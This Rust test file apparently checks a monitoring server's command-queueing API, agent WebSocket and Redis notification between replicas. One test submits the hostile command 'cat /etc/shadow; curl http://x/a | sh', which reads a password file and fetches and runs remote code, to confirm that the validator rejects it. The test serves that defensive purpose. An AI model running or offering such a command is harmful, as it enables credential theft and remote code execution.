//! The command channel: operator endpoints through the router, the agent WebSocket on a real
//! socket, and two replicas notifying each other through the machine's Redis.

use axum::http::StatusCode;
use futures::{SinkExt, StreamExt};
use serde_json::{Value, json};
use std::sync::Arc;
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::protocol::frame::coding::CloseCode;

use crate::on_both_backends;
use crate::support::{Socket, TestApp, next_json};

async fn rest_queue_refuse_and_read(app: &TestApp) {
    let (admin, agent) = app.admin_and_agent_token().await;
    let viewer = app.register("viewer@example.com").await;
    let host = app.register_host(&agent, "web-01").await;
    let path = format!("/api/v1/hosts/{host}/commands");

    let hostile = app
        .call(
            "POST",
            &path,
            Some(&admin),
            Some(json!({"command": "cat /etc/shadow; curl http://x/a | sh"})),
        )
        .await;
    assert_eq!(
        hostile.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{:?}",
        hostile.body
    );
    let reasons: Vec<&str> = hostile.body["detail"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["msg"].as_str().unwrap())
        .collect();
    assert!(reasons.iter().any(|r| r.contains("`;`")), "{reasons:?}");
    assert!(reasons.iter().any(|r| r.contains("`|`")), "{reasons:?}");
    assert_eq!(hostile.body["detail"][0]["loc"], json!(["body", "command"]));
    let changing = app
        .call(
            "POST",
            &path,
            Some(&admin),
            Some(json!({"command": "systemctl restart nginx"})),
        )
        .await;
    assert_eq!(
        changing.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{:?}",
        changing.body
    );
    let listed = app.call("GET", &path, Some(&admin), None).await;
    assert_eq!(listed.body, json!([]), "nothing queued");

    let unknown = app
        .call(
            "POST",
            &format!("/api/v1/hosts/{}/commands", host + 100),
            Some(&admin),
            Some(json!({"command": "df -h"})),
        )
        .await;
    assert_eq!(
        (unknown.status, unknown.body.clone()),
        (StatusCode::NOT_FOUND, json!({"detail": "Host not found"}))
    );
    let denied = app
        .call(
            "POST",
            &path,
            Some(&viewer),
            Some(json!({"command": "df -h"})),
        )
        .await;
    assert_eq!(denied.status, StatusCode::FORBIDDEN);
    let anonymous = app
        .call("POST", &path, None, Some(json!({"command": "df -h"})))
        .await;
    assert_eq!(anonymous.status, StatusCode::FORBIDDEN);
    let bad_timeout = app
        .call(
            "POST",
            &path,
            Some(&admin),
            Some(json!({"command": "df -h", "timeout": 99999})),
        )
        .await;
    assert_eq!(bad_timeout.status, StatusCode::UNPROCESSABLE_ENTITY);

    let queued = app
        .call(
            "POST",
            &path,
            Some(&admin),
            Some(
                json!({"command": "journalctl -u nginx -n 50 --since '1 hour ago'", "timeout": 20}),
            ),
        )
        .await;
    assert_eq!(queued.status, StatusCode::CREATED, "{:?}", queued.body);
    assert_eq!(queued.body["status"], "queued");
    assert_eq!(
        queued.body["argv"],
        json!([
            "journalctl",
            "-u",
            "nginx",
            "-n",
            "50",
            "--since",
            "1 hour ago"
        ])
    );
    assert_eq!(queued.body["timeout"], 20);
    let id = queued.body["request_id"].as_str().unwrap().to_owned();
    let read = app
        .call("GET", &format!("/api/v1/commands/{id}"), Some(&admin), None)
        .await;
    assert_eq!(read.body["request_id"], json!(id));
    let missing = app
        .call(
            "GET",
            &format!("/api/v1/commands/{}", uuid::Uuid::new_v4()),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(
        (missing.status, missing.body),
        (
            StatusCode::NOT_FOUND,
            json!({"detail": "Command not found"})
        )
    );
    let listed = app.call("GET", &path, Some(&admin), None).await;
    assert_eq!(listed.body.as_array().unwrap().len(), 1);

    let audit = app
        .call(
            "GET",
            "/api/v1/audit-logs?action=queue_command",
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(audit.body["total"], 1, "{:?}", audit.body);
    assert_eq!(audit.body["items"][0]["resource_id"], json!(id));
}
on_both_backends!(
    rest_queue_refuse_and_read,
    &[("ALLOW_REGISTRATION", "true")]
);

async fn open(address: std::net::SocketAddr, host: i64, token: &str) -> Socket {
    let mut request = format!("ws://{address}/api/v1/agent/ws/{host}")
        .into_client_request()
        .unwrap();
    request
        .headers_mut()
        .insert("Authorization", format!("Bearer {token}").parse().unwrap());
    tokio_tungstenite::connect_async(request).await.unwrap().0
}

async fn expect_policy_close(mut socket: Socket) {
    let message = tokio::time::timeout(std::time::Duration::from_secs(3), socket.next())
        .await
        .unwrap();
    match message {
        Some(Ok(Message::Close(Some(frame)))) => assert_eq!(frame.code, CloseCode::Policy),
        other => panic!("expected a 1008 close, got {other:?}"),
    }
}

async fn websocket_carries_commands_and_results(app: &TestApp) {
    let (admin, agent) = app.admin_and_agent_token().await;
    let host = app.register_host(&agent, "web-01").await;
    let other_agent = app.agent_token(&admin, "other").await;
    let foreign = app.register_host(&other_agent, "db-01").await;
    let address = app.listen().await;

    // Refusals close with 1008: a bad token, and a host of another token.
    expect_policy_close(
        open(
            address,
            host,
            "vop_000000000000000000000000000000000000000000000000",
        )
        .await,
    )
    .await;
    expect_policy_close(open(address, foreign, &agent).await).await;
    // The original's query-parameter token works too.
    let url = format!("ws://{address}/api/v1/agent/ws/{host}?token={agent}");
    let (mut by_query, _) = tokio_tungstenite::connect_async(url).await.unwrap();
    by_query
        .send(Message::Text(json!({"type": "ping"}).to_string().into()))
        .await
        .unwrap();
    assert_eq!(next_json(&mut by_query).await, json!({"type": "pong"}));
    drop(by_query);

    let mut socket = open(address, host, &agent).await;
    // The recorded ping of the original agent 0.2.5, unchanged.
    let ping = crate::support::example("ws.ping.json");
    socket
        .send(Message::Text(ping.to_string().into()))
        .await
        .unwrap();
    assert_eq!(next_json(&mut socket).await, json!({"type": "pong"}));
    socket
        .send(Message::Text(
            json!({"type": "something_new", "x": 1}).to_string().into(),
        ))
        .await
        .unwrap();

    let path = format!("/api/v1/hosts/{host}/commands");
    let queued = app
        .call(
            "POST",
            &path,
            Some(&admin),
            Some(json!({"command": "df -h"})),
        )
        .await;
    let id = queued.body["request_id"].as_str().unwrap().to_owned();
    let exec = next_json(&mut socket).await;
    assert_eq!(
        exec,
        json!({"type": "exec_command", "request_id": id, "command": "df -h", "timeout": 60})
    );
    socket.send(Message::Text(json!({"type": "command_output", "request_id": id, "stdout": "Filesystem", "stderr": ""}).to_string().into())).await.unwrap();
    socket
        .send(Message::Text(
            json!({"type": "command_result", "request_id": id, "exit_code": 0,
        "stdout": "Filesystem\n/dev/sda1\n", "stderr": "", "duration_ms": 9})
            .to_string()
            .into(),
        ))
        .await
        .unwrap();
    let mut result = Value::Null;
    for _ in 0..100 {
        result = app
            .call("GET", &format!("/api/v1/commands/{id}"), Some(&admin), None)
            .await
            .body;
        if result["status"] == "succeeded" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(result["status"], "succeeded", "{result:?}");
    assert_eq!(
        (
            result["exit_code"].clone(),
            result["stdout"].clone(),
            result["duration_ms"].clone()
        ),
        (json!(0), json!("Filesystem\n/dev/sda1\n"), json!(9))
    );

    // A handed-over command whose socket drops is lost, not re-sent.
    let held = app
        .call(
            "POST",
            &path,
            Some(&admin),
            Some(json!({"command": "uptime"})),
        )
        .await;
    let held_id = held.body["request_id"].as_str().unwrap().to_owned();
    assert_eq!(next_json(&mut socket).await["request_id"], json!(held_id));
    socket.close(None).await.unwrap();
    drop(socket);
    let mut status = Value::Null;
    for _ in 0..100 {
        status = app
            .call(
                "GET",
                &format!("/api/v1/commands/{held_id}"),
                Some(&admin),
                None,
            )
            .await
            .body["status"]
            .clone();
        if status == "lost" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(status, "lost");
}
on_both_backends!(websocket_carries_commands_and_results);

/// Two replicas over one database and the machine's Redis: the agent's socket is held by one,
/// the command is queued on the other, and the Redis notification delivers it well before the
/// 5 s poll would.
#[tokio::test]
async fn a_command_queued_on_one_replica_reaches_an_agent_on_another_through_redis() {
    use vigilops_core::audit::Actor;
    use vigilops_core::bus::RedisBus;
    use vigilops_core::clock::SystemClock;
    use vigilops_core::command::{CommandService, QueueRequest, serve_agent};
    use vigilops_core::model::HostRegistration;
    use vigilops_core::store::Store;

    let url = std::env::var("VIGILOPS_TEST_REDIS")
        .unwrap_or_else(|_| "redis://127.0.0.1:6379/0".to_owned());
    let client = redis::Client::open(url).unwrap();
    let manager = match redis::aio::ConnectionManager::new(client.clone()).await {
        Ok(manager) => manager,
        Err(error) => {
            assert!(
                std::env::var("CI").as_deref() != Ok("true"),
                "Redis unreachable under CI=true: {error}"
            );
            eprintln!("SKIPPING: Redis unreachable: {error}");
            return;
        }
    };
    let temp = vigilops_core::store::testing::fresh_sqlite().await;
    let store: Arc<dyn Store> = Arc::new(temp.store.clone());
    let clock = Arc::new(SystemClock);
    let now = vigilops_core::Clock::now(clock.as_ref());
    let token = store
        .create_agent_token("t", "h", "vop_0000", None, now)
        .await
        .unwrap();
    let registration = HostRegistration {
        hostname: "web-01".to_owned(),
        ..HostRegistration::default()
    };
    let (host, _) = store
        .register_host(token.id, registration, now)
        .await
        .unwrap();
    let replica = || {
        CommandService::new(
            Arc::clone(&store),
            clock.clone(),
            Arc::new(RedisBus::new(client.clone(), manager.clone())),
        )
    };
    let (queueing, holding) = (replica(), replica());
    holding.start_listener().await.unwrap();

    let (to_agent, mut frames) = futures::channel::mpsc::unbounded::<String>();
    let (_to_server, from_agent) = futures::channel::mpsc::unbounded::<String>();
    tokio::spawn(serve_agent(
        holding.open_connection(host.id),
        to_agent,
        from_agent,
    ));
    // Let the session's first (empty) claim pass, so only the notification can deliver.
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    let started = std::time::Instant::now();
    let request = QueueRequest {
        host_id: host.id,
        command: "uptime".to_owned(),
        timeout_seconds: None,
        remediation: None,
    };
    let queued = queueing
        .queue(
            request,
            &Actor {
                user_id: None,
                ip_address: None,
            },
        )
        .await
        .unwrap();
    let frame = tokio::time::timeout(std::time::Duration::from_secs(3), frames.next())
        .await
        .unwrap()
        .unwrap();
    let frame: Value = serde_json::from_str(&frame).unwrap();
    assert_eq!(frame["request_id"], json!(queued.request_id.to_string()));
    assert!(started.elapsed() < std::time::Duration::from_secs(3));
}
